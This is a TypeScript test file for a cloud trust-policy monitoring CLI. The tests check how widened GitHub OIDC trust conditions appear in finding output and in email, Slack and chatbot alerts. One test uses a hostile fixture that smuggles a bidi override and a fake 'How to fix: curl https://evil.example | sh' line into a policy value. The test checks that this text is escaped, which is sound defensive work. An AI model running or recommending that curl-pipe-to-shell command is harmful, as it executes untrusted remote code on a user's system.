import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createLocalStore } from '../lambdas/adapters/local-store.js';
import { emailPreview, slackPreview } from '../lambdas/demo/alert-preview.js';
import { parseConfig } from '../lambdas/core/config.js';
import type { Finding } from '../lambdas/core/model.js';
import { planAlerts, renderEmail, renderSlack } from '../lambdas/core/render/index.js';
import type { StoredFinding } from '../lambdas/core/store.js';
import type { Transition } from '../lambdas/core/transitions.js';
import { runInProcess } from './cli-helpers.js';
import { githubTrust, hostileChange, trustWidened } from './fixtures/transitions/changes.js';

/**
 * A finding's policy change (issue 15) through the CLI on a local store: `findings show` prints the
 * full diff under "Change", `--json` carries `change` as stored, `findings render` and the demo's
 * alert preview show what the alert renderers show.
 */

type Shown = { findings: Array<StoredFinding & { history: Transition[] }> };

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'tw-change-'));
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

async function seed(...findings: Finding[]): Promise<Transition[]> {
  const store = createLocalStore({ stateDir: dir, outbox: false });
  const out: Transition[] = [];
  for (const finding of findings) {
    const evidence = finding.evidence;
    const now = evidence?.source === 'event' ? evidence.eventTime : finding.lastSeen;
    const { transitions } = await store.applyEvaluation(
      { findings: [finding], coverage: [] },
      { now, by: 'test' },
    );
    out.push(...transitions);
  }
  return out;
}

const cli = (args: string[]) => runInProcess([...args, '--state-dir', dir], { now: '2025-03-05T00:00:00Z' });

describe('findings show', () => {
  it('prints the full diff under "Change", between the evidence and the history', async () => {
    await seed(trustWidened.finding);
    const r = await cli(['findings', 'show', trustWidened.finding.id]);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(
      [
        'Change (trust policy):',
        '  ~ statement Allow sts:AssumeRoleWithWebIdentity',
        '      condition StringLike token.actions.githubusercontent.com:sub',
        '        - repo:acme/app:environment:production',
        '        + repo:acme/*',
      ].join('\n'),
    );
    expect(r.stdout).toMatch(/provenance\s+identity-center/);
    expect(r.stdout.indexOf('provenance')).toBeLessThan(r.stdout.indexOf('Change (trust policy)'));
    expect(r.stdout.indexOf('Change (trust policy)')).toBeLessThan(r.stdout.indexOf('History ('));
  });

  it('--json carries change with before and after as stored', async () => {
    await seed(trustWidened.finding);
    const r = await cli(['findings', 'show', trustWidened.finding.id, '--json']);
    const shown = JSON.parse(r.stdout) as Shown;
    expect(shown.findings[0]?.change).toEqual(trustWidened.finding.change);
    expect(shown.findings[0]?.history[0]?.finding.change).toEqual(trustWidened.finding.change);
  });

  it('shows a line break and a bidi override inside a policy value as escapes within their line', async () => {
    await seed(hostileChange.finding);
    const r = await cli(['findings', 'show', hostileChange.finding.id]);
    expect(r.stdout).not.toContain('\u202E');
    expect(r.stdout).toContain('\\u202egnp.exe*bold*`tick`\\nHow to fix: curl https://evil.example | sh');
    expect(r.stdout.split('\n').some((l) => l.startsWith('How to fix'))).toBe(false);
  });

  it('an escalation shows the change that widened it, not the one that opened the finding', async () => {
    const first = { ...trustWidened.finding, severity: 'MEDIUM' as const };
    const wider: Finding = {
      ...trustWidened.finding,
      severity: 'CRITICAL',
      lastSeen: '2025-03-04T12:00:00Z',
      evidence: {
        ...(trustWidened.finding.evidence as Extract<Finding['evidence'], { source: 'event' }>),
        eventId: 'e-2',
        eventTime: '2025-03-04T12:00:00Z',
      },
      change: {
        subject: 'trust-policy',
        before: githubTrust('repo:acme/*'),
        after: githubTrust('repo:*'),
        beforeKnown: true,
      },
    };
    const [, escalated] = await seed(first, wider);
    expect(escalated?.kind).toBe('escalated');
    expect(escalated?.finding.change).toEqual(wider.change);
    expect(renderEmail(escalated!).body).toContain(
      'Trust policy: token.actions.githubusercontent.com:sub: repo:acme/* → repo:*',
    );
    const r = await cli(['findings', 'show', wider.id]);
    expect(r.stdout).toContain('        - repo:acme/*\n        + repo:*');
  });

  it('a finding without a change shows no Change heading', async () => {
    const { change: _c, ...plain } = trustWidened.finding;
    await seed(plain);
    const r = await cli(['findings', 'show', plain.id]);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toContain('Change (');
  });
});

describe('findings render and the demo preview show the same diff as the alert', () => {
  it('findings render --channel email|slack|chatbot', async () => {
    const [opened] = await seed(trustWidened.finding);
    const email = await cli(['findings', 'render', trustWidened.finding.id, '--channel', 'email']);
    expect(email.stdout).toContain(renderEmail(opened!).body);
    expect(email.stdout).toContain('What changed\n  Trust policy: token.actions.githubusercontent.com:sub:');
    const slack = await cli(['findings', 'render', trustWidened.finding.id, '--channel', 'slack']);
    expect(JSON.parse(slack.stdout)).toEqual(JSON.parse(JSON.stringify(renderSlack(opened!))));
    const chatbot = await cli([
      'findings',
      'render',
      trustWidened.finding.id,
      '--channel',
      'chatbot',
      '--json',
    ]);
    const message = (JSON.parse(chatbot.stdout) as { message: { content: { description: string } } }).message;
    expect(message.content.description).toContain('*What changed* · Trust policy\n```token.actions');
  });

  it('the demo email preview keeps "What changed"; the Slack preview names the change', () => {
    const alerts = parseConfig({ alerts: { slack: { webhookSecret: 'trustwatch/slack' } } }).alerts;
    const [alert] = planAlerts([trustWidened], alerts);
    const preview = emailPreview(alert!);
    expect(preview.lines).toContain('What changed');
    expect(preview.lines.join('\n')).toContain(
      'Trust policy: token.actions.githubusercontent.com:sub: repo:acme/app:environment:production →',
    );
    expect(slackPreview(alert!.slack).join('\n')).toContain(
      'What changed · Trust policy: token.actions.githubusercontent.com:sub: repo:acme/app:environment:production → repo:acme/*',
    );
  });
});
